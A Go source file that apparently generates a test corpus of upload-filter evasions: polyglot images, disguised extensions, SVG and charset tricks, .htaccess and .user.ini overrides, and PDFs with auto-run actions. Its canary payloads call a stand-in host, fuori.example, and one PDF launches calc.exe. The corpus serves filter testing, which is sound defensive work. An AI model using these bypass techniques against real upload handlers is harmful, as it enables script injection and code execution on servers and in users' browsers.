package main

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"path"
	"strings"
	"unicode/utf16"
)

// evasion is an attachment that tries to run, in a reader's browser or on the host, or to
// call out. Were it run, it would say so: its title and its console say ESEGUITO, and it asks
// for /canary/ID on its own host and for something at ID.fuori.example; on a host it prints
// what no byte of it says. All are written for these tests, after what is publicly known: the
// lists of OWASP on filters and on SVG, those of cure53 and of DOMPurify's tests,
// PortSwigger's list, the documents of Apache, nginx, Caddy and PHP on names.
type evasion struct {
	id   string // letters, digits and hyphens: it is the name of a host, too
	name string // of the file, in a folder of its own
	does does   // what it does where nothing defends: the control of the tests holds it to that
	as   string // the type under which a browser does it
	data []byte
}

// does is what a file does where nothing defends.
type does string

const (
	doesRun     does = "runs in the browser"
	doesLeave   does = "asks a host for something"
	doesOnHost  does = "runs on the host"
	doesNothing does = "does nothing" // in Chromium today: others did, or another program does
	doesMaybe   does = "runs or not, by how busy the machine is"
)

// file gives the name under content/.
func (e *evasion) file() string { return path.Join("media/e", e.id, e.name) }

// armed puts into a text what an evasion does, and who it is. None of it has <, & or ".
func armed(id, text string) string {
	text = strings.ReplaceAll(text, "{{page}}", `<!DOCTYPE html><html><head><title>x</title></head><body><script>{{js}}</script></body></html>`)
	text = strings.ReplaceAll(text, "{{xhtml}}", `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body><script>{{js}}</script></body></html>`)
	text = strings.ReplaceAll(text, "{{php}}", `<?php echo "ESEGUITO-".(6*7)."-{{id}}"; ?>`)
	text = strings.ReplaceAll(text, "{{js}}", `document.title='ESEGUITO';console.log('ESEGUITO {{id}}');new Image().src='/canary/{{id}}';fetch('{{out}}')`)
	text = strings.ReplaceAll(text, "{{out}}", "http://{{id}}.fuori.example/leave")
	text = strings.ReplaceAll(text, "{{xlink}}", `xmlns:xlink="http://www.w3.org/1999/xlink"`)
	text = strings.ReplaceAll(text, "{{h}}", `xmlns="http://www.w3.org/1999/xhtml"`)
	for {
		before, rest, found := strings.Cut(text, "{{base64 ")
		if !found {
			return strings.ReplaceAll(text, "{{id}}", id)
		}
		inner, after, _ := strings.Cut(rest, " base64}}")
		text = before + base64.StdEncoding.EncodeToString([]byte(strings.ReplaceAll(inner, "{{id}}", id))) + after
	}
}

// evasions gives the whole corpus.
func evasions() []*evasion {
	var all []*evasion
	for _, rows := range [][]evasion{
		nameEvasions(), hostEvasions(), contentEvasions(), drawingEvasions(), wholeDrawings(), styleEvasions(),
		foreignEvasions(), xmlEvasions(), encodedDrawings(), pdfEvasions(),
	} {
		for i := range rows {
			all = append(all, &rows[i])
		}
	}
	return all
}

// nameEvasions are pages under names that a host, or a browser, may take for those of pages.
func nameEvasions() []evasion {
	html, xml := "text/html", "application/xml"
	var out []evasion
	for _, row := range []struct{ id, name, as, text string }{
		{"noext", "pagina", html, "{{page}}"},
		{"noext-dotted-folder", "cartella.pdf/pagina", html, "{{page}}"},
		{"unknown", "pagina.zzz", html, "{{page}}"},
		{"html", "pagina.html", html, "{{page}}"},
		{"htm-upper", "PAGINA.HTM", html, "{{page}}"},
		{"html-it", "pagina.html.it", html, "{{page}}"},
		{"htm-en", "pagina.htm.en", html, "{{page}}"},
		{"html-utf8", "pagina.html.utf8", html, "{{page}}"},
		{"html-zz", "pagina.html.zz", html, "{{page}}"},
		{"html-pdf", "pagina.html.pdf", html, "{{page}}"},
		{"html-bak", "pagina.html.bak", html, "{{page}}"},
		{"html-tilde", "pagina.html~", html, "{{page}}"},
		{"html-underscore", "pagina.html_", html, "{{page}}"},
		{"it-html", "pagina.it.html", html, "{{page}}"},
		{"index-it", "index.html.it", html, "{{page}}"},
		{"index", "index.html", html, "{{page}}"},
		{"jis", "pagina.html.iso2022-jp", html, "{{page}}"},
		{"utf7-name", "pagina.html.utf7", html, "+ADw-script+AD4-{{js}}+ADw-/script+AD4-"},
		{"xht", "pagina.xht", xml, "{{xhtml}}"},
		{"xhtml", "pagina.xhtml", xml, "{{xhtml}}"},
		{"xsd", "schema.xsd", xml, "{{xhtml}}"},
		{"xsl", "stile.xsl", xml, "{{xhtml}}"},
		{"xslt", "stile.xslt", xml, "{{xhtml}}"},
		{"rdf", "dati.rdf", xml, "{{xhtml}}"},
		{"rss", "feed.rss", xml, "{{xhtml}}"},
		{"atom", "feed.atom", xml, "{{xhtml}}"},
		{"mml", "formula.mml", xml, "{{xhtml}}"},
		{"xul", "finestra.xul", xml, "{{xhtml}}"},
		{"wsdl", "servizio.wsdl", xml, "{{xhtml}}"},
		{"owl", "ontologia.owl", xml, "{{xhtml}}"},
		{"xlf", "testi.xlf", xml, "{{xhtml}}"},
		{"dtd", "schema.dtd", xml, "{{xhtml}}"},
		{"ent", "schema.ent", xml, "{{xhtml}}"},
		{"xbl", "legame.xbl", xml, "{{xhtml}}"},
		{"resx", "testi.resx", xml, "{{xhtml}}"},
		{"fodt", "testo.fodt", xml, "{{xhtml}}"},
		{"xml-it", "dati.xml.it", xml, "{{xhtml}}"},
		{"svg-it", "disegno.svg.it", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg"><script>{{js}}</script></svg>`},
		{"svg-upper", "DISEGNO.SVG", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg"><a.b:script xmlns:a.b="http://www.w3.org/2000/svg">{{js}}</a.b:script></svg>`},
		{"shtm", "pagina.shtm", html, "{{page}}"},
		{"stm", "pagina.stm", html, "{{page}}"},
		{"htc", "comportamento.htc", html, "{{page}}"},
		{"hta", "programma.hta", html, "{{page}}"},
		{"htt", "cartella.htt", html, "{{page}}"},
		{"js", "programma.js", html, "{{page}}"},
		{"wide-dot", "pagina．html", html, "{{page}}"},
		{"zero-width", "pagina.ht\u200bml", html, "{{page}}"},
		{"rtl", "pagina\u202efdp.html", html, "{{page}}"},
		{"blank-end", "pagina.html ", html, "{{page}}"},
		{"dot-end", "pagina.html.", html, "{{page}}"},
		{"mht", "pagina.mht", "multipart/related", "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n{{page}}\r\n--x--\r\n"},
		{"eml", "lettera.eml", "message/rfc822", "MIME-Version: 1.0\r\nSubject: x\r\nContent-Type: text/html\r\n\r\n{{page}}\r\n"},
		{"semicolon", "pagina.html;.pdf", html, "{{page}}"},
	} {
		does := doesRun
		if row.id == "utf7-name" || row.id == "mht" || row.id == "eml" {
			does = doesNothing
		}
		out = append(out, evasion{row.id, row.name, does, row.as, []byte(armed(row.id, row.text))})
	}
	for _, row := range []struct{ id, name, text string }{
		{"lnk", "collegamento.lnk", "L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F{{out}}"},
		{"url", "collegamento.url", "[InternetShortcut]\r\nURL={{out}}\r\n"},
		{"webloc", "collegamento.webloc", `<plist version="1.0"><dict><key>URL</key><string>{{out}}</string></dict></plist>`},
		{"desktop", "collegamento.desktop", "[Desktop Entry]\nType=Application\nExec=xdg-open {{out}}\n"},
		{"scf", "cartella.scf", "[Shell]\r\nIconFile=\\\\{{id}}.fuori.example\\x.ico\r\n"},
		{"library-ms", "dati.library-ms", `<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"/>`},
		{"settings-ms", "dati.SettingContent-ms", `<PCSettings><SearchableContent/></PCSettings>`},
		{"application", "programma.application", `<assembly xmlns="urn:schemas-microsoft-com:asm.v1"/>`},
		{"jnlp", "programma.jnlp", `<jnlp codebase="{{out}}"/>`},
		{"docm", "testo.docm", "PK\x03\x04\x14\x00\x00\x00\x00\x00"},
		{"xlsm", "tabella.xlsm", "PK\x03\x04\x14\x00\x00\x00\x00\x00"},
		{"xlam", "aggiunta.xlam", "PK\x03\x04\x14\x00\x00\x00\x00\x00"},
		{"jar", "programma.jar", "PK\x03\x04\x14\x00\x00\x00\x00\x00"},
		{"apk", "programma.apk", "PK\x03\x04\x14\x00\x00\x00\x00\x00"},
		{"exe", "programma.exe", "MZ\x90\x00"},
		{"pdf-exe", "delibera.pdf.exe", "MZ\x90\x00"},
		{"exe-as-pdf", "delibera.pdf", "MZ\x90\x00\x03\x00\x00\x00"},
		{"scr", "salvaschermo.scr", "MZ\x90\x00"},
		{"vbe", "programma.vbe", "#@~^"},
		{"wsf", "programma.wsf", `<job><script language="JScript">1</script></job>`},
		{"reg", "chiavi.reg", "REGEDIT4\r\n"},
		{"iqy", "richiesta.iqy", "WEB\r\n1\r\n{{out}}\r\n"},
		{"swf", "filmato.swf", "CWS\x0a"},
		{"wasm", "programma.wasm", "\x00asm\x01\x00\x00\x00"},
		{"iso", "disco.iso", "CD001"},
		{"sh", "programma.sh", "#!/bin/sh\necho x\n"},
	} {
		out = append(out, evasion{row.id, row.name, doesNothing, "", []byte(armed(row.id, row.text))})
	}
	return out
}

// hostEvasions run on the host, or tell it how to serve other files.
func hostEvasions() []evasion {
	const cgi = "#!/bin/sh\nprintf 'Content-Type: text/html\\n\\nESEGUITO-%s-{{id}}' $((6*7))\n"
	const ssi = `ESEGUITO-<!--#set var="n" value="42" --><!--#echo var="n" -->-{{id}} {{page}}`
	var out []evasion
	for _, row := range []struct {
		id, name string
		does     does
		text     string
	}{
		{"php", "n.php", doesOnHost, "{{php}}"},
		{"phar", "n.phar", doesOnHost, "{{php}}"},
		{"phtml", "n.phtml", doesOnHost, "{{php}}"},
		{"php-jpg", "n.php.jpg", doesOnHost, "{{php}}"},
		{"php-it", "n.php.it", doesOnHost, "{{php}}"},
		{"php-pdf", "n.php.pdf", doesOnHost, "{{php}}"},
		{"php-csv", "n.php.csv", doesOnHost, "{{php}}"},
		{"php-upper", "N.PHP.Pdf", doesOnHost, "{{php}}"},
		{"phar-it", "n.phar.it", doesOnHost, "{{php}}"},
		{"php5", "n.php5", doesOnHost, "{{php}}"},
		{"pht", "n.pht", doesNothing, "{{php}}"},
		{"php7-txt", "n.php7.txt", doesOnHost, "{{php}}"},
		{"phps", "n.phps", doesNothing, "{{php}}"},
		{"inc", "n.inc", doesNothing, "{{php}}"},
		{"module", "n.module", doesNothing, "{{php}}"},
		{"php-folder", "n.php/atto.txt", doesNothing, "{{php}}"},
		{"cgi", "n.cgi", doesOnHost, cgi},
		{"cgi-txt", "n.cgi.txt", doesOnHost, cgi},
		{"pl", "n.pl", doesOnHost, cgi},
		{"py-pdf", "n.py.pdf", doesNothing, cgi},
		{"fcgi", "n.fcgi", doesNothing, cgi},
		{"shtml", "n.shtml", doesOnHost, ssi},
		{"shtml-it", "n.shtml.it", doesOnHost, ssi},
		{"shtml-txt", "n.shtml.txt", doesOnHost, ssi},
		{"asis", "n.asis", doesNothing, "Status: 200 OK\nContent-Type: text/html\n\n{{page}}"},
		{"var", "mappa.var", doesNothing, "URI: mappa\n\nURI: allegato.txt\nContent-Type: text/html\n"},
		{"var-target", "../var/allegato.txt", doesNothing, "{{page}}"},
		{"asp-semicolon", "n.asp;.jpg", doesNothing, `<%="x"%>`},
		{"aspx", "n.aspx", doesNothing, `<%="x"%>`},
		{"ashx", "n.ashx", doesNothing, `<%="x"%>`},
		{"asa", "n.asa", doesNothing, `<%="x"%>`},
		{"cer", "n.cer", doesNothing, `<%="x"%>`},
		{"jspx", "n.jspx", doesNothing, `<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page"/>`},
		{"cfm", "n.cfm", doesNothing, `<cfoutput>x</cfoutput>`},
		{"htaccess", ".htaccess", doesNothing, "AddHandler application/x-httpd-php .csv\nAddType text/html .txt\n"},
		{"htaccess-csv", "../htaccess/n.csv", doesOnHost, "{{php}}"},
		{"htaccess-txt", "../htaccess/n.txt", doesNothing, "{{page}}"},
		{"htpasswd", ".htpasswd", doesNothing, "a:b\n"},
		{"htaccess-upper", ".HTACCESS", doesNothing, "AddType text/html .txt\n"},
		{"user-ini", ".user.ini", doesNothing, "auto_prepend_file=n.txt\n"},
		{"php-ini", "php.ini", doesNothing, "auto_prepend_file=n.txt\n"},
		{"web-config", "web.config", doesNothing, `<configuration><system.webServer><handlers accessPolicy="Read, Script"/></system.webServer></configuration>`},
		{"web-config-upper", "Web.Config", doesNothing, `<configuration/>`},
		{"headers", "_headers", doesNothing, "/*\n  Content-Type: text/html\n"},
		{"redirects", "_redirects", doesNothing, "/* {{out}} 301\n"},
		{"worker", "_worker.js", doesNothing, "export default {}\n"},
		{"netlify", "netlify.toml", doesNothing, "[build]\ncommand = \"x\"\n"},
		{"caddyfile", "Caddyfile", doesNothing, "respond x\n"},
	} {
		out = append(out, evasion{row.id, row.name, row.does, "", []byte(armed(row.id, row.text))})
	}
	return out
}

// contentEvasions have a harmless name and the content of a page or a program: what tells
// types by content, or is told so by its settings, would run them.
func contentEvasions() []evasion {
	gif, png := "GIF89a\x01\x00\x01\x00\x80\x00\x00", "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00\x90wS\xde"
	var out []evasion
	for _, ext := range strings.Fields("pdf txt csv tsv jpg jpeg png gif webp avif json geojson ics vcf p7m p7s zip docx odt xlsx doc rtf mp3 mp4 webm epub md") {
		id := "page-" + ext
		out = append(out, evasion{id, "allegato." + ext, doesRun, "text/html", []byte(armed(id, "{{page}}"))})
	}
	for _, row := range []struct{ id, name, text string }{
		{"page-xml", "dati.xml", "{{page}}"},
		{"page-svg", "disegno.svg", "{{page}}"},
		{"page-kml", "mappa.kml", "{{page}}"},
		{"comment-svg", "disegno.svg", `<!--><script>{{js}}</script>--><svg xmlns="http://www.w3.org/2000/svg"/>`},
		{"cdata-svg", "disegno.svg", `<svg xmlns="http://www.w3.org/2000/svg"><style><![CDATA[</style><script>{{js}}</script>]]></style></svg>`},
		{"gif-page", "foto.gif", gif + "{{page}}"},
		{"png-page", "foto.png", png + "\x00\x00\x01\x00tEXtComment\x00{{page}}"},
		{"jpg-page", "foto.jpg", "\xff\xd8\xff\xfe\x01\x80{{page}}\xff\xd9"},
		{"webp-page", "foto.webp", "RIFF\x00\x01\x00\x00WEBP{{page}}"},
		{"mp4-page", "filmato.mp4", "\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00{{page}}"},
		{"mp3-page", "voce.mp3", "ID3\x03\x00\x00\x00\x00\x00\x00{{page}}"},
		{"pdf-page", "atto.pdf", "{{page}}\n%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n"},
		{"zip-page", "atti.zip", "{{page}}PK\x05\x06" + strings.Repeat("\x00", 18)},
		{"page-zip", "atti.zip", "PK\x05\x06" + strings.Repeat("\x00", 18) + "{{page}}"},
		{"json-page", "dati.json", `{"a": "{{page}}"}`},
		{"csv-page", "dati.csv", "nome;valore\nx;{{page}}\n"},
		{"ics-page", "date.ics", "BEGIN:VCALENDAR\r\nSUMMARY:{{page}}\r\nEND:VCALENDAR\r\n"},
		{"txt-bom-page", "nota.txt", "\ufeff{{page}}"},
		{"txt-blank-page", "nota.txt", strings.Repeat("\n \t", 200) + "{{page}}"},
		{"txt-utf7", "nota.txt", "+ADw-script+AD4-{{js}}+ADw-/script+AD4-"},
	} {
		does := doesRun
		if row.id == "txt-utf7" || row.id == "cdata-svg" {
			does = doesNothing
		}
		out = append(out, evasion{row.id, row.name, does, "text/html", []byte(armed(row.id, row.text))})
	}
	for _, row := range []struct{ id, name, text string }{
		{"jpg-php", "foto.jpg", "\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xfe\x00\x40{{php}}\xff\xd9"},
		{"png-php", "foto.png", png + "\x00\x00\x00\x40tEXtComment\x00{{php}}"},
		{"gif-php", "foto.gif", gif + "{{php}}"},
		{"pdf-php", "atto.pdf", "%PDF-1.4\n{{php}}\n%%EOF\n"},
		{"csv-php", "dati.csv", "a;b\n{{php}};1\n"},
		{"txt-php", "nota.txt", "{{php}}\n"},
		{"txt-ssi", "nota.txt", `ESEGUITO-<!--#set var="n" value="42" --><!--#echo var="n" -->-{{id}}`},
		{"zip-php", "atti.zip", "PK\x05\x06" + strings.Repeat("\x00", 18) + "{{php}}"},
		{"polyglot-js", "foto.gif", "GIF89a/*\x01\x00\x01\x00*/=1;{{js}}"},
		{"csv-formula", "dati.csv", "=HYPERLINK(\"{{out}}\");1\n"},
		{"mp4-playlist", "filmato.mp4", "#EXTM3U\n#EXTINF:1,\n{{out}}\n"},
		{"ole-as-pdf", "atto.pdf", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"},
		{"elf-as-zip", "atti.zip", "\x7fELF\x02\x01\x01"},
		{"utf16-page-csv", "dati.csv", utf16Text("{{page}}", binary.LittleEndian, true)},
	} {
		out = append(out, evasion{row.id, row.name, doesNothing, "", []byte(armed(row.id, row.text))})
	}
	for i := range out {
		if out[i].id == "utf16-page-csv" { // its marks are of two bytes each
			out[i].data = []byte(utf16Text(armed(out[i].id, "{{page}}"), binary.LittleEndian, true))
			out[i].does, out[i].as = doesRun, "text/html"
		}
	}
	return out
}

// utf16Text writes a text in UTF-16.
func utf16Text(text string, order binary.AppendByteOrder, bom bool) string {
	if bom {
		text = "\ufeff" + text
	}
	var out []byte
	for _, u := range utf16.Encode([]rune(text)) {
		out = order.AppendUint16(out, u)
	}
	return string(out)
}

// utf32Text writes a text in UTF-32 with its mark.
func utf32Text(text string) string {
	var out []byte
	for _, r := range "\ufeff" + text {
		out = binary.LittleEndian.AppendUint32(out, uint32(r))
	}
	return string(out)
}

// encodedDrawings hide their script from who looks at bytes as if they were UTF-8.
func encodedDrawings() []evasion {
	const drawing = `<svg xmlns="http://www.w3.org/2000/svg"><script>{{js}}</script></svg>`
	shifted := strings.NewReplacer("<script", "<scr\x1b(Bipt", "</script", "</scr\x1b(Bipt").Replace(drawing)
	const hidden = `<a.b:script xmlns:a.b="http://www.w3.org/2000/svg">{{js}}</a.b:script>`
	var out []evasion
	for _, row := range []struct {
		id   string
		does does
		text func(string) string // what is made of the text with its marks
		of   string
	}{
		{"enc-utf16le", doesRun, func(s string) string { return utf16Text(s, binary.LittleEndian, true) }, drawing},
		{"enc-utf16be", doesRun, func(s string) string { return utf16Text(s, binary.BigEndian, true) }, drawing},
		{"enc-utf16-no-bom", doesRun, func(s string) string { return utf16Text(s, binary.LittleEndian, false) }, `<?xml version="1.0" encoding="UTF-16LE"?>` + drawing},
		{"enc-utf16be-no-bom", doesRun, func(s string) string { return utf16Text(s, binary.BigEndian, false) }, `<?xml version="1.0" encoding="UTF-16BE"?>` + drawing},
		{"enc-utf32", doesNothing, utf32Text, drawing},
		{"enc-jis", doesRun, nil, `<?xml version="1.0" encoding="ISO-2022-JP"?>` + shifted},
		{"enc-jis-quotes", doesRun, nil, `<?xml version='1.0'  encoding = 'iso-2022-jp' standalone='yes'?>` + shifted},
		{"enc-kr", doesNothing, nil, `<?xml version="1.0" encoding="ISO-2022-KR"?>` + strings.ReplaceAll(drawing, "script", "scr\x0fipt")},
		{"enc-hz", doesNothing, nil, `<?xml version="1.0" encoding="HZ-GB-2312"?>` + strings.ReplaceAll(drawing, "script", "scr~\nipt")},
		{"enc-utf7", doesNothing, nil, `<?xml version="1.0" encoding="UTF-7"?>` + strings.ReplaceAll(drawing, "script", "s+AGM-ript")},
		{"enc-ebcdic", doesNothing, ebcdic, `<?xml version="1.0" encoding="IBM037"?>` + drawing},
		{"enc-latin1", doesRun, nil, `<?xml version="1.0" encoding="ISO-8859-1"?>` + strings.ReplaceAll(`<svg xmlns="http://www.w3.org/2000/svg">`+hidden+`</svg>`, "a.b", "\xe0")},
		{"enc-1252", doesRun, nil, `<?xml version="1.0" encoding="windows-1252"?>` + strings.ReplaceAll(`<svg xmlns="http://www.w3.org/2000/svg">`+hidden+`</svg>`, "a.b", "\xe8")},
		{"enc-gb18030", doesRun, nil, `<?xml version="1.0" encoding="gb18030"?>` + strings.ReplaceAll(`<svg xmlns="http://www.w3.org/2000/svg">`+hidden+`</svg>`, "a.b", "\xd2\xbb")},
		{"enc-koi8", doesRun, nil, `<?xml version="1.0" encoding="koi8-r"?>` + strings.ReplaceAll(`<svg xmlns="http://www.w3.org/2000/svg">`+hidden+`</svg>`, "a.b", "\xc1")},
		{"enc-sjis", doesRun, nil, `<?xml version="1.0" encoding="Shift_JIS"?>` + strings.ReplaceAll(`<svg xmlns="http://www.w3.org/2000/svg">`+hidden+`</svg>`, "a.b", "\x88\xea")},
		{"enc-user", doesRun, nil, `<?xml version="1.0" encoding="x-user-defined"?>` + `<svg xmlns="http://www.w3.org/2000/svg">` + hidden + `</svg>`},
		{"enc-lies", doesRun, nil, `<?xml version="1.0" encoding="UTF-16"?><svg xmlns="http://www.w3.org/2000/svg">` + hidden + `</svg>`},
		{"enc-bom", doesRun, nil, "\ufeff" + `<svg xmlns="http://www.w3.org/2000/svg">` + hidden + `</svg>`},
		{"enc-two-boms", doesRun, nil, "\ufeff\ufeff" + `<svg xmlns="http://www.w3.org/2000/svg">` + hidden + `</svg>`},
		{"enc-nul", doesNothing, nil, `<svg xmlns="http://www.w3.org/2000/svg"><scr` + "\x00" + `ipt>{{js}}</scr` + "\x00" + `ipt></svg>`},
		{"enc-overlong", doesNothing, nil, `<svg xmlns="http://www.w3.org/2000/svg">` + "\xc0\xbcscript>{{js}}\xc0\xbc/script></svg>"},
		{"enc-xml11", doesRun, nil, `<?xml version="1.1"?><svg xmlns="http://www.w3.org/2000/svg">` + hidden + `</svg>`},
	} {
		text := armed(row.id, row.of)
		if row.text != nil {
			text = row.text(text)
		}
		out = append(out, evasion{row.id, "disegno.svg", row.does, "image/svg+xml", []byte(text)})
	}
	return out
}

// ebcdic writes what ASCII has of a text in IBM's code page 37.
func ebcdic(text string) string {
	const ascii = ` .<(+&!$*);-/,%_>?:#@'="abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789`
	codes := []byte{0x40, 0x4b, 0x4c, 0x4d, 0x4e, 0x50, 0x5a, 0x5b, 0x5c, 0x5d, 0x5e, 0x60, 0x61, 0x6b, 0x6c, 0x6d, 0x6e, 0x6f, 0x7a, 0x7b, 0x7c, 0x7d, 0x7e, 0x7f}
	for _, run := range [][2]byte{{0x81, 0x89}, {0x91, 0x99}, {0xa2, 0xa9}, {0xc1, 0xc9}, {0xd1, 0xd9}, {0xe2, 0xe9}, {0xf0, 0xf9}} {
		for c := run[0]; c <= run[1]; c++ {
			codes = append(codes, c)
		}
	}
	out := make([]byte, 0, len(text))
	for _, c := range []byte(text) {
		if i := strings.IndexByte(ascii, c); i >= 0 {
			out = append(out, codes[i])
		}
	}
	return string(out)
}

// pdfEvasions are documents that would do something by themselves when they are opened. Those
// that a reader's program asks about first are published: nothing may leave without a click.
func pdfEvasions() []evasion {
	var out []evasion
	for _, row := range []struct{ id, catalog, page string }{
		{"pdf-js-launch", `/OpenAction<</S/JavaScript/JS(app.launchURL\("{{out}}", true\))>>`, ""},
		{"pdf-js-submit", `/OpenAction<</S/JavaScript/JS(this.submitForm\("{{out}}"\))>>`, ""},
		{"pdf-js-get", `/OpenAction<</S/JavaScript/JS(this.getURL\("{{out}}"\))>>`, ""},
		{"pdf-js-names", `/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(this.submitForm\("{{out}}"\))>>]>>>>`, ""},
		{"pdf-uri", `/OpenAction<</S/URI/URI({{out}})>>`, ""},
		{"pdf-uri-js", `/OpenAction<</S/URI/URI(javascript:console.log\(1\))>>`, ""},
		{"pdf-submit", `/OpenAction<</S/SubmitForm/F<</FS/URL/F({{out}})>>/Fields[]>>`, ""},
		{"pdf-gotor", `/OpenAction<</S/GoToR/F<</FS/URL/F({{out}})>>/D[0/Fit]>>`, ""},
		{"pdf-launch", `/OpenAction<</S/Launch/F(calc.exe)>>`, ""},
		{"pdf-import", `/OpenAction<</S/ImportData/F<</FS/URL/F({{out}})>>>>`, ""},
		{"pdf-aa", "", `/AA<</O<</S/URI/URI({{out}})>>>>`},
		{"pdf-xfa", `/AcroForm<</Fields[]/XFA(<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>)>>`, ""},
	} {
		out = append(out, evasion{row.id, "atto.pdf", doesNothing, "application/pdf", pdf(armed(row.id, row.catalog), armed(row.id, row.page), "Delibera")})
	}
	return out
}

// pdf writes a document of one page with a line of text.
func pdf(catalog, page, text string, more ...string) []byte {
	content := "BT /F1 24 Tf 72 700 Td (" + text + ") Tj ET"
	objects := append([]string{
		"<</Type/Catalog/Pages 2 0 R" + catalog + ">>",
		"<</Type/Pages/Kids[3 0 R]/Count 1>>",
		"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>" + page + ">>",
		fmt.Sprintf("<</Length %d>>stream\n%s\nendstream", len(content), content),
		"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
	}, more...)
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	places := make([]int, len(objects))
	for i, o := range objects {
		places[i] = b.Len()
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	start := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objects)+1)
	for _, at := range places {
		fmt.Fprintf(&b, "%010d 00000 n \n", at)
	}
	fmt.Fprintf(&b, "trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n", len(objects)+1, start)
	return b.Bytes()
}

// gzipped packs a text.
func gzipText(text string) []byte {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	_, _ = w.Write([]byte(text)) // memory takes everything
	_ = w.Close()
	return b.Bytes()
}
